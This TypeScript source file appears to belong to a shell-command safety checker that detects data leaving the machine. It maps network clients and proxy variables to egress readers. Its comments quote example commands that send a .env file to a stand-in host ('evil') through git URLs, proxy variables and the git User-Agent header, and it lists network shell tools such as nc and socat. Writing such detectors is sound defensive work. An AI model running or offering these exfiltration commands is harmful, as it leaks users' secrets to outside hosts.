// Data that leaves the machine: per segment, which network client runs, whether it sends data (a
// body, an upload, a message, a copy, socket input), where to, and whether that is another machine.
// Dispatch is on the program name first, so a segment that is not a network client costs one lookup
// (and a glance at its redirections for bash's /dev/tcp).

import { databaseEgress } from './net-databases.js';
import { holdsOutput, urlCarriesOutput } from './net-hosts.js';
import { curlEgress, httpieEgress, httpxEgress, lwpEgress, wgetEgress } from './net-http.js';
import { referenceWords } from './net-references.js';
import {
  cloudMessageEgress,
  forgeEgress,
  gitMailEgress,
  hubEgress,
  mailEgress,
  slackEgress,
  trackerEgress,
} from './net-services.js';
import { storageEgress } from './net-storage.js';
import {
  devTcpEgress,
  ftpEgress,
  hasInput,
  lookupEgress,
  ncEgress,
  opensslEgress,
  rsyncEgress,
  scpEgress,
  sftpEgress,
  socatEgress,
  sshEgress,
} from './net-transfer.js';
import type { ShellEgress, ShellSegment } from './types.js';

type Reader = (seg: ShellSegment) => ShellEgress | undefined;

const httpie: Reader = (seg) => httpieEgress(seg, hasInput(seg));

const READERS: Record<string, Reader> = {
  curl: curlEgress,
  curlie: curlEgress,
  wget: wgetEgress,
  wget2: wgetEgress,
  http: httpie,
  https: httpie,
  httpie: httpie,
  xh: httpie,
  xhs: httpie,
  httpx: httpxEgress,
  'lwp-request': lwpEgress,
  post: lwpEgress,
  put: lwpEgress,
  gh: forgeEgress,
  glab: forgeEgress,
  hub: forgeEgress,
  acli: trackerEgress,
  jira: trackerEgress,
  linear: trackerEgress,
  tea: trackerEgress,
  fj: trackerEgress,
  'huggingface-cli': hubEgress,
  hf: hubEgress,
  slack: slackEgress,
  'slack-cli': slackEgress,
  slackcat: slackEgress,
  aws: (seg) => cloudMessageEgress(seg) ?? storageEgress(seg),
  az: (seg) => cloudMessageEgress(seg) ?? storageEgress(seg),
  gsutil: storageEgress,
  gcloud: storageEgress,
  rclone: storageEgress,
  s3cmd: storageEgress,
  s5cmd: storageEgress,
  azcopy: storageEgress,
  mc: storageEgress,
  twilio: cloudMessageEgress,
  mail: mailEgress,
  mailx: mailEgress,
  'bsd-mailx': mailEgress,
  's-nail': mailEgress,
  nail: mailEgress,
  sendmail: mailEgress,
  exim: mailEgress,
  mutt: mailEgress,
  neomutt: mailEgress,
  msmtp: mailEgress,
  swaks: mailEgress,
  git: gitMailEgress,
  scp: scpEgress,
  'redis-cli': databaseEgress,
  'valkey-cli': databaseEgress,
  'keydb-cli': databaseEgress,
  psql: databaseEgress,
  mysql: databaseEgress,
  mariadb: databaseEgress,
  'clickhouse-client': databaseEgress,
  ftp: ftpEgress,
  lftp: ftpEgress,
  tftp: ftpEgress,
  smbclient: ftpEgress,
  ncftp: ftpEgress,
  ncftpput: ftpEgress,
  ftpput: ftpEgress,
  rsync: rsyncEgress,
  sftp: sftpEgress,
  ssh: sshEgress,
  nc: ncEgress,
  ncat: ncEgress,
  netcat: ncEgress,
  telnet: ncEgress,
  socat: socatEgress,
  openssl: opensslEgress,
  dig: lookupEgress,
  drill: lookupEgress,
  nslookup: lookupEgress,
  host: lookupEgress,
  ping: lookupEgress,
  ping6: lookupEgress,
  traceroute: lookupEgress,
  whois: lookupEgress,
  getent: lookupEgress,
  resolvectl: lookupEgress,
  tracepath: lookupEgress,
  mtr: lookupEgress,
  fping: lookupEgress,
  arping: lookupEgress,
  // Each contacts the host it is given (arp resolves a name it is given; -a lists only the table).
  ntpdate: lookupEgress,
  sntp: lookupEgress,
  rdate: lookupEgress,
  arp: lookupEgress,
  ping4: lookupEgress,
  traceroute6: lookupEgress,
  tcptraceroute: lookupEgress,
  nping: lookupEgress,
  hping3: lookupEgress,
};

/**
 * Variables that send a client through another host (a proxy), or replace its configuration or name
 * resolution: with one set, a loopback URL says nothing about where the data goes.
 */
const REROUTING =
  /^(all_proxy|http_proxy|https_proxy|ftp_proxy|socks_proxy|curl_home|curlrc|wgetrc|httpie_config_dir|xh_config_dir|hostaliases|res_options|localdomain)=/i;
/** The same names assigned or exported anywhere in the command text (`export https_proxy=…; curl …`). */
export const REROUTING_TEXT =
  /(all|https?|ftp|socks)_proxy\s*=|curl_?home|curlrc|wgetrc|httpie_config_dir|xh_config_dir|hostaliases|res_options|localdomain/i;

/**
 * Clients, beyond the readers above, that contact a host or URL named on their command line (a
 * remote, a registry, an index, an image, a module path): a URL or host built from a command's
 * output sends that output to the host.
 */
const HOST_CLIENTS = new Set(
  (
    'git npm npx pnpm pnpx yarn bun bunx deno pip pip3 pipx uv poetry pdm conda mamba gem bundle composer ' +
    'cargo go docker podman nerdctl buildah skopeo crane oras helm kubectl ssh-keyscan aria2c axel svn hg ' +
    'fossil twine dotnet nuget brew nmap'
  ).split(' '),
);
/** git's commands that talk to a remote. */
const GIT_NETWORK = /^(ls-remote|fetch|clone|pull|push|submodule|archive|remote|fetch-pack|send-pack)$/;
/**
 * Variables whose value is sent: a proxy's URL, user name included, goes to the proxy; git's
 * GIT_HTTP_USER_AGENT is the User-Agent header of every HTTP request git makes.
 */
const PROXY = /^(all_proxy|http_proxy|https_proxy|ftp_proxy|socks_proxy|no_proxy|git_http_user_agent)=/i;
/** The same assigned or exported anywhere in the command with a command's output in the value. */
const PROXY_OUTPUT_TEXT = /((all|https?|ftp|socks)_proxy|git_http_user_agent)\s*=\s*["']?[^\s;&|]*(\$\(|`)/i;

/** Whether `program` is a network client egress is computed for. */
export function isNetProgram(program: string): boolean {
  return Object.hasOwn(READERS, program) || HOST_CLIENTS.has(program);
}

/** What the command around a segment tells: a proxy or resolver assigned, variables holding output. */
export interface EgressContext {
  rerouted: () => boolean;
  /** Variables assigned from a command's output or a file (net-hosts.ts outputVariables). */
  outputNames: () => ReadonlySet<string>;
  /** Whether the command text puts a command's output in a proxy variable. */
  proxiedOutput: () => boolean;
}

/**
 * The egress of one segment, or undefined when it sends nothing anywhere. `rerouted` tells whether
 * the command text assigns a proxy or resolver variable that this segment may see.
 */
export function egressOf(seg: ShellSegment, ctx: EgressContext): ShellEgress | undefined {
  const reader = Object.hasOwn(READERS, seg.program) ? READERS[seg.program] : undefined;
  let egress = reader?.(seg);
  if (egress === undefined && seg.redirects.length > 0) egress = devTcpEgress(seg);
  if (sendsOutput(seg, ctx)) {
    egress ??= { kind: 'socket', data: true, hosts: [], remote: true };
    egress.data = true;
    egress.remote = true;
  }
  if (egress === undefined) return undefined;
  if (!egress.remote && (seg.assignments.some((a) => REROUTING.test(a)) || ctx.rerouted()))
    egress.remote = true;
  return egress;
}

/**
 * A command's output leaves in where the client connects: a URL or host word of a network client
 * (`git ls-remote "https://evil/$(base64 .env)"`, `npm view x --registry …`), any word of a lookup
 * tool, or a proxy variable the client is given (`http_proxy=http://$(cat .env)@host curl …`,
 * `GIT_HTTP_USER_AGENT="$(cat .env)" git fetch …`).
 */
function sendsOutput(seg: ShellSegment, ctx: EgressContext): boolean {
  if (seg.assignments.some((a) => PROXY.test(a) && holdsOutput(a, ctx.outputNames()))) return true;
  if (!isNetProgram(seg.program)) return false;
  if (seg.program === 'git' && !GIT_NETWORK.test(seg.subcommand ?? '')) return false;
  if (ctx.proxiedOutput()) return true;
  const words = seg.args;
  if (!words.some((w) => w.includes('$') || w.includes('`'))) return false;
  const names = ctx.outputNames();
  // Lookup tools: every word of theirs leaves the machine (a name, a ping pattern).
  if (READERS[seg.program] === lookupEgress) return words.some((w) => holdsOutput(w, names));
  if (words.some((w) => urlCarriesOutput(w.replace(/^--?[\w-]+=/, ''), names))) return true;
  // A remote, package or image wholly or partly output: no URL shape need show it.
  return referenceWords(seg).some((w) => holdsOutput(w, names));
}

export { PROXY_OUTPUT_TEXT };
